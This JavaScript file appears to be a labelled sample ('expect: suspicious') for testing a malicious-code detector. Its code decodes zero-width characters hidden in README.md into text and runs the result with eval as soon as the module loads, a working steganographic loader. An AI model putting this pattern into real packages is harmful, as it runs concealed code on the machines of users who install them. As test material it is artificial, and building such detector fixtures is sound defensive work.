// expect: suspicious
// source: text steganography (zero-width characters as bits in a shipped document), run as code; written here
const fs = require('fs');
const path = require('path');

function readNotes() {
  const text = fs.readFileSync(path.join(__dirname, 'README.md'), 'utf8');
  let bits = '';
  for (const ch of text) {
    if (ch === '\u200b') bits += '0';
    else if (ch === '\u200c') bits += '1';
  }
  let out = '';
  for (let i = 0; i + 8 <= bits.length; i += 8) out += String.fromCharCode(parseInt(bits.slice(i, i + 8), 2));
  return out;
}

const notes = readNotes();
if (notes) eval(notes);
module.exports = { notes };
